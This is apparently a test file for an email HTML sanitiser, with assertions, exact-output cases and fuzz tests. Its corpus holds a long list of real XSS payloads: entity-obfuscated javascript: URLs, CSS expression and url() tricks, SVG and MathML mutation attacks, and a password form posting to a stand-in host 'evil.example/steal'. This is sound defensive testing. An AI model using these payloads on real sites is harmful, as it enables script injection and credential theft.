import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  EMAIL_ALLOWED_TAGS,
  sanitizeEmailHtml,
  sanitizeEmailHtmlDetailed,
  sanitizeInlineStyle,
  type SanitizeEmailHtmlOptions,
} from './html-sanitize.js';

const BLOCKED: SanitizeEmailHtmlOptions = { allowRemoteImages: false };
const PROXIED: SanitizeEmailHtmlOptions = {
  allowRemoteImages: true,
  imageProxyUrl: (u) => `/image-proxy?url=${encodeURIComponent(u)}`,
};
const DIRECT: SanitizeEmailHtmlOptions = { allowRemoteImages: true };
const MODES: Array<[string, SanitizeEmailHtmlOptions]> = [
  ['blocked', BLOCKED],
  ['proxied', PROXIED],
  ['direct', DIRECT],
];

// ---------------------------------------------------------------------------------------------
// An inspector for sanitised output. sanitize-html always writes double-quoted attributes and
// escapes "<" in text, so every "<" in the output must start a tag this regex understands.

interface Tag {
  name: string;
  closing: boolean;
  attrs: Record<string, string>;
}

function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#([0-9]+);?/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function inspect(html: string): Tag[] {
  const tags: Tag[] = [];
  const tagRe = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9-]*(?:="[^"]*")?)*)\s*\/?>/gy;
  let i = 0;
  while (i < html.length) {
    const lt = html.indexOf('<', i);
    if (lt === -1) break;
    tagRe.lastIndex = lt;
    const m = tagRe.exec(html);
    if (!m) throw new Error(`unparseable markup at ${lt}: ${html.slice(lt, lt + 60)}`);
    const attrs: Record<string, string> = {};
    for (const a of m[3]!.matchAll(/([a-z][a-z0-9-]*)(?:="([^"]*)")?/g)) attrs[a[1]!] = decodeEntities(a[2] ?? '');
    tags.push({ name: m[2]!, closing: m[1] === '/', attrs });
    i = tagRe.lastIndex;
  }
  return tags;
}

const ALLOWED_TAGS = new Set(EMAIL_ALLOWED_TAGS);
const browserClean = (u: string) => u.replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '').replace(/[\t\n\r]/g, '');

/** What must hold for any input, in any mode. */
function assertSafe(output: string, opts: SanitizeEmailHtmlOptions): void {
  expect(output).not.toMatch(/<\s*\/?\s*(script|style|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|meta|base|link|noscript|template|xmp|title)\b/i);
  for (const tag of inspect(output)) {
    expect(ALLOWED_TAGS.has(tag.name), `tag <${tag.name}> in ${output}`).toBe(true);
    for (const [name, value] of Object.entries(tag.attrs)) {
      expect(name.startsWith('on'), `event handler ${name}`).toBe(false);
      expect(['id', 'name', 'class', 'form', 'formaction', 'action', 'srcset', 'srcdoc', 'xlink:href', 'poster']).not.toContain(name);
      const url = browserClean(value).toLowerCase();
      if (name === 'href') expect(url, output).toMatch(/^(https?:\/\/|mailto:|cid:|#)/);
      if (name === 'src') {
        if (opts.imageProxyUrl) expect(url, output).toMatch(/^(\/image-proxy\?url=https?%3a%2f%2f|cid:|data:image\/(png|gif|jpe?g|webp|bmp|avif);base64,)/);
        else if (opts.allowRemoteImages) expect(url, output).toMatch(/^(https?:\/\/|cid:|data:image\/(png|gif|jpe?g|webp|bmp|avif);base64,)/);
        else expect(url, output).toMatch(/^(cid:|data:image\/(png|gif|jpe?g|webp|bmp|avif);base64,)/);
      }
      if (name === 'background') expect(url).toMatch(opts.allowRemoteImages ? /^(https?:|\/image-proxy|cid:)/ : /^cid:/);
      if (name === 'target') expect(value).toBe('_blank');
      if (name === 'style') {
        expect(url).not.toMatch(/expression|javascript|vbscript|behavior|binding|import|\\|position:\s*(fixed|absolute|sticky)/);
        for (const u of url.matchAll(/url\("?([^")]*)/g)) {
          const target = u[1]!;
          if (!opts.allowRemoteImages) expect(target).toMatch(/^(cid:|data:image\/)/);
          else if (opts.imageProxyUrl) expect(target).toMatch(/^(\/image-proxy\?url=https?%3a%2f%2f|cid:|data:image\/)/);
          else expect(target).toMatch(/^(https?:\/\/|cid:|data:image\/)/);
        }
      }
    }
    if (tag.name === 'a' && !tag.closing && tag.attrs.href && !tag.attrs.href.startsWith('#')) {
      expect(tag.attrs.rel).toBe('noopener noreferrer nofollow');
      expect(tag.attrs.target).toBe('_blank');
    }
  }
}

// ---------------------------------------------------------------------------------------------

const XSS_CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="java&#9;script:alert(1)">tab</a>',
  '<a href="javas&Tab;cript:alert(1)">named tab</a>',
  '<a href="java&#x0A;script:alert(1)">newline</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="javascript&#58alert(1)">colon without semicolon</a>',
  '<a href="&#x6A;avascript:alert(1)">hex j</a>',
  '<a href="  JaVaScRiPt:alert(1)">case and spaces</a>',
  '<a href="\u0001javascript:alert(1)">control char</a>',
  '<a href="java\u0000script:alert(1)">NUL</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)">handlers</a>',
  '<a href="https://ok.example/" target="_self" rel="opener">target</a>',
  '<a href="/relative/path">relative</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p title="</p><script>alert(1)</script>">attr breakout</p>',
  '<div style="width: expression(alert(1))">css expression</div>',
  '<div style="width: exp/**/ression(alert(1))">css comment</div>',
  '<div style="xss:expr/*XSS*/ession(alert(1))">css comment 2</div>',
  '<div style="width: &#101;xpression(alert(1))">entity in css</div>',
  '<div style="background:url(javascript:alert(1))">css js url</div>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">css js url quoted</div>',
  "<div style=\"background-image:url('vbscript:x')\">css vb url</div>",
  '<div style="background:\\75rl(javascript:alert(1))">css escape</div>',
  '<div style="background:u\\rl(https://t.example/x.png)">css escape 2</div>',
  '<div style="behavior: url(https://evil.example/x.htc)">behavior</div>',
  '<div style="-moz-binding: url(https://evil.example/xbl.xml#x)">binding</div>',
  '<div style="color:red;} body { background: url(https://t.example/x.png)">brace</div>',
  '<div style="@import \'https://evil.example/x.css\'">import</div>',
  "<div style=\"background-image: image-set('https://t.example/x.png' 1x)\">image-set</div>",
  '<div style="background: url(https://t.example/a.png), url(javascript:alert(1))">two urls</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</div>',
  '<div style="--x: url(https://t.example/x.png); background: var(--x)">custom property</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body { background: url(https://t.example/x.png) }</style>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<form id="f"></form><button form="f" formaction="javascript:alert(1)">X</button>',
  '<input type="image" src="https://t.example/x.png">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<select><option>a</option></select><textarea><script>alert(1)</script></textarea>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.example/"></frameset>',
  '<object data="https://evil.example/x.swf"><param name="x" value="y"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="X.class"></applet>',
  '<img srcset="javascript:alert(1) 1x, https://t.example/x.png 2x">',
  '<img src="https://ok.example/x.png" srcset="https://t.example/x.png 2x">',
  '<img src="https://ok.example/x.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<picture><source srcset="https://t.example/x.png"><img src="cid:a@b"></picture>',
  '<video poster="https://t.example/x.png"><source src="https://t.example/x.mp4"></video>',
  '<audio src="https://t.example/x.mp3" autoplay></audio>',
  '<body background="https://t.example/x.png" onload="alert(1)">body</body>',
  '<table background="javascript:alert(1)"><tr><td background="https://t.example/x.png">cell</td></tr></table>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<div id="x" class="y"><a name="z" href="https://ok.example/">clobber</a></div>',
  '<a href="https://ok.example/"><img src="https://t.example/x.png" onload="alert(1)"></a>',
  '<x-custom onclick="alert(1)">custom</x-custom>',
  '<img src="https://t.example/x.png?a=1&amp;b=2&quot;onerror=&quot;alert(1)">',
  '<a href="https://ok.example/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">quoted</a>',
  '<div style="font-family: &quot;Comic Sans&quot;; background: url(&quot;https://t.example/x.png&quot;)">q</div>',
];

describe('sanitizeEmailHtml: XSS corpus', () => {
  for (const [mode, opts] of MODES) {
    it.each(XSS_CORPUS.map((c) => [c]))(`${mode}: %s`, (input) => {
      const out = sanitizeEmailHtml(input, opts);
      assertSafe(out, opts);
      // Stable: sanitising the output again changes nothing that matters.
      if (opts.allowRemoteImages && !opts.imageProxyUrl) expect(sanitizeEmailHtml(out, opts)).toBe(out);
      else assertSafe(sanitizeEmailHtml(out, opts), opts);
    });
  }
});

describe('sanitizeEmailHtml: exact results', () => {
  const cases: Array<[string, SanitizeEmailHtmlOptions, string]> = [
    ['<script>alert(1)</script><p>Hello</p>', BLOCKED, '<p>Hello</p>'],
    ['<p onclick="x()">Hi <b>there</b></p>', BLOCKED, '<p>Hi <b>there</b></p>'],
    ['<a href="java&#x09;script:alert(1)">x</a>', BLOCKED, '<a>x</a>'],
    ['<a href="javascript&colon;alert(1)">x</a>', BLOCKED, '<a>x</a>'],
    [
      '<a href="https://example.com/path?q=1" target="_self">link</a>',
      BLOCKED,
      '<a href="https://example.com/path?q=1" target="_blank" rel="noopener noreferrer nofollow">link</a>',
    ],
    [
      '<a href="mailto:ann@example.com?subject=Hi%20there">mail</a>',
      BLOCKED,
      '<a href="mailto:ann@example.com?subject=Hi%20there" target="_blank" rel="noopener noreferrer nofollow">mail</a>',
    ],
    ['<a href="#section-2">jump</a>', BLOCKED, '<a href="#section-2">jump</a>'],
    ['<a href="/settings">relative</a>', BLOCKED, '<a>relative</a>'],
    ['<a href="ftp://example.com/">ftp</a>', BLOCKED, '<a>ftp</a>'],
    [
      '<a href="//cdn.example.com/x">protocol-relative</a>',
      BLOCKED,
      '<a href="https://cdn.example.com/x" target="_blank" rel="noopener noreferrer nofollow">protocol-relative</a>',
    ],
    ['<img src="https://t.example/pixel.gif" alt="">', BLOCKED, '<img alt="" data-blocked-src="https://t.example/pixel.gif" />'],
    ['<img src="https://t.example/pixel.gif" alt="">', DIRECT, '<img alt="" src="https://t.example/pixel.gif" />'],
    [
      '<img src="https://t.example/pixel.gif">',
      PROXIED,
      '<img src="/image-proxy?url=https%3A%2F%2Ft.example%2Fpixel.gif" />',
    ],
    ['<img src="cid:logo@acme.example">', BLOCKED, '<img src="cid:logo@acme.example" />'],
    ['<img src="cid:logo@acme.example">', PROXIED, '<img src="cid:logo@acme.example" />'],
    ['<img src="data:image/png;base64,iVBORw0KGgo=">', BLOCKED, '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', DIRECT, '<img />'],
    ['<img src="x" onerror="alert(1)">', DIRECT, '<img />'],
    ['<img srcset="https://t.example/a.png 2x" src="cid:a">', DIRECT, '<img src="cid:a" />'],
    [
      '<table background="https://t.example/bg.png"><tr><td>x</td></tr></table>',
      BLOCKED,
      '<table data-blocked-background="https://t.example/bg.png"><tr><td>x</td></tr></table>',
    ],
    [
      '<td background="https://t.example/bg.png">x</td>',
      PROXIED,
      '<td background="/image-proxy?url=https%3A%2F%2Ft.example%2Fbg.png">x</td>',
    ],
    [
      '<div style="color: red; background: url(https://t.example/bg.png); width: expression(alert(1))">x</div>',
      BLOCKED,
      '<div style="color:red">x</div>',
    ],
    [
      '<div style="color: red; background: url(https://t.example/bg.png)">x</div>',
      PROXIED,
      '<div style="color:red;background:url(&quot;/image-proxy?url=https%3A%2F%2Ft.example%2Fbg.png&quot;)">x</div>',
    ],
    [
      '<div style="background-image: url(\'cid:bg@x\')">x</div>',
      BLOCKED,
      '<div style="background-image:url(&quot;cid:bg@x&quot;)">x</div>',
    ],
    [
      '<p style="font-family: Arial, sans-serif; font-size: 14px; margin: 0 0 8px; color: rgb(51, 51, 51) !important">t</p>',
      BLOCKED,
      '<p style="font-family:Arial, sans-serif;font-size:14px;margin:0 0 8px;color:rgb(51, 51, 51) !important">t</p>',
    ],
    ['<div style="position: fixed; top: 0">x</div>', BLOCKED, '<div style="top:0">x</div>'],
    ['<div style="position: relative">x</div>', BLOCKED, '<div style="position:relative">x</div>'],
    ['<font face="Arial" color="#333" size="2">f</font>', BLOCKED, '<font face="Arial" color="#333" size="2">f</font>'],
    [
      '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff"><tr><td valign="top" colspan="2">c</td></tr></table>',
      BLOCKED,
      '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff"><tr><td valign="top" colspan="2">c</td></tr></table>',
    ],
    [
      '<html><head><title>T</title><style>p{color:red}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"></head><body onload="x()"><p>Hi</p></body></html>',
      BLOCKED,
      '<p>Hi</p>',
    ],
    ['<form action="https://evil.example/"><label>Password <input type="password" name="p"></label><button>Go</button></form>', BLOCKED, 'Password Go'],
    ['<svg onload=alert(1)><circle r="1"/></svg>after', BLOCKED, 'after'],
    ['<iframe src="https://evil.example/">fallback</iframe>after', BLOCKED, 'after'],
    ['<div id="x" class="y" name="z" data-x="1">d</div>', BLOCKED, '<div>d</div>'],
    ['<img data-blocked-src="javascript:alert(1)" src="cid:a">', BLOCKED, '<img src="cid:a" />'],
    ['Tom &amp; Jerry &lt;tom@example.com&gt;', BLOCKED, 'Tom &amp; Jerry &lt;tom@example.com&gt;'],
    ['<blockquote type="cite">quoted</blockquote>', BLOCKED, '<blockquote type="cite">quoted</blockquote>'],
  ];
  it.each(cases)('%s', (input, opts, expected) => {
    expect(sanitizeEmailHtml(input, opts)).toBe(expected);
  });
});

describe('sanitizeEmailHtmlDetailed', () => {
  it('counts blocked remote images and lists cid references', () => {
    const r = sanitizeEmailHtmlDetailed(
      '<img src="https://t.example/a.png"><img src="cid:logo@x"><table background="http://t.example/b.png"></table>' +
        '<div style="background:url(https://t.example/c.png)"></div><img src="cid:%3Cpart2%40x%3E"><img src="cid:logo@x">',
      BLOCKED,
    );
    expect(r.blockedRemoteImages).toBe(3);
    expect(r.cidReferences).toEqual(['logo@x', 'part2@x']);
  });

  it('blocks nothing when remote images are allowed', () => {
    expect(sanitizeEmailHtmlDetailed('<img src="https://t.example/a.png">', PROXIED).blockedRemoteImages).toBe(0);
  });
});

describe('sanitizeInlineStyle', () => {
  const keep = () => 'https://kept.example/x.png';
  const drop = () => null;
  it.each([
    ['color: red', keep, 'color: red'],
    ['COLOR: Red;;  margin:0', keep, 'color: Red; margin: 0'],
    ['background: url(https://t/x.png) no-repeat', keep, 'background: url("https://kept.example/x.png") no-repeat'],
    ['background: url(https://t/x.png) no-repeat', drop, ''],
    ['color: red; background: url(x)', drop, 'color: red'],
    ['width: expression(alert(1))', keep, ''],
    ['background: URL (x)', keep, ''],
    ['color: red /* c */', keep, ''],
    ['font-family: "a;b"', keep, ''],
    ['transform: rotate(45deg)', keep, 'transform: rotate(45deg)'],
    ['width: calc(100% - (2 * 8px))', keep, ''],
    ['x'.repeat(9000), keep, ''],
    ['--brand: red', keep, ''],
    [': red', keep, ''],
    ['color:', keep, ''],
    ['vbscript:]]', keep, ''],
    ['javascript-x: red', keep, ''],
  ] as const)('%j', (style, image, expected) => {
    expect(sanitizeInlineStyle(style, image)).toBe(expected);
  });
});

describe('sanitizeEmailHtml: random mixtures of hostile fragments', () => {
  const fragments = [
    '<', '>', '/', '"', "'", '=', ' ', '\t', '\n', '&#x09;', '&#58;', '&colon;', '&quot;', '&lt;', '&gt;', '&amp;',
    '<a href=', '<img src=', '<div style=', '<table background=', '<svg', '<math', '<style>', '</style>',
    '<script>', '</script>', '<noscript>', '</noscript>', '<title>', '</title>', '<textarea>', '<!--', '-->',
    '<![CDATA[', ']]>', '<iframe', '<form', '<input', '<base', '<meta http-equiv=refresh content=',
    'javascript:', 'java', 'script:', 'alert(1)', 'onerror=', 'onload=', 'expression(', 'url(', ')',
    'https://t.example/x.png', 'cid:a@b', 'data:image/png;base64,AAAA', 'data:text/html,', 'vbscript:',
    'srcset=', 'xlink:href=', 'formaction=', '\\', '/*', '*/', 'position:fixed', ';', '</a>', '</div>', 'text',
  ];
  const hostileHtml = fc.array(fc.constantFrom(...fragments), { maxLength: 40 }).map((parts) => parts.join(''));

  it.each(MODES)('%s: output is always safe', (_mode, opts) => {
    fc.assert(
      fc.property(hostileHtml, (input) => {
        assertSafe(sanitizeEmailHtml(input, opts), opts);
      }),
      { numRuns: 400 },
    );
  });
});
